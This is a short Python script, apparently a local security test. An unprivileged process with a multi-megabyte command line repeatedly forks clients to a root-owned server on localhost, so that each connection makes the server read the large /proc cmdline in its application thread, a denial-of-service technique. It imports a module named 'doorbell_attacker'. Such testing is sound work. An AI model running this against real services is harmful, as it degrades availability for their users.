#!/usr/bin/python3
"""Run as nobody with a huge command line (argv + environment, up to 6 MB with `ulimit -s
unlimited`): forks a child per connection (a new pid each: root's server caches the tag of 64
pids), each a CARRIER client of root's colo server at 127.0.0.1:PORT that closes once answered.
root's accept() reads /proc/<pid>/cmdline whole, in the application's thread, for each one
(service::server::markers::client_tag). Usage: bigcmd.py PORT SECONDS [filler args...]"""
import os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import doorbell_attacker as da
port, secs = int(sys.argv[1]), float(sys.argv[2])
print("cmdline bytes:", len(open("/proc/self/cmdline", "rb").read()), flush=True)
end = time.time() + secs
n = ok = 0
while time.time() < end:
    pid = os.fork()
    if pid == 0:
        try:
            c = da.Conn(port, da.CARRIER, "control")
            a = da.answer(c.ctl, 2)
            time.sleep(0.05)  # alive while root reads its command line
            os._exit(0 if a and a[0] == "welcome" else 1)
        except Exception:
            os._exit(2)
    _, st = os.waitpid(pid, 0)
    n += 1
    ok += st == 0
print("connections", n, "welcomed", ok, flush=True)
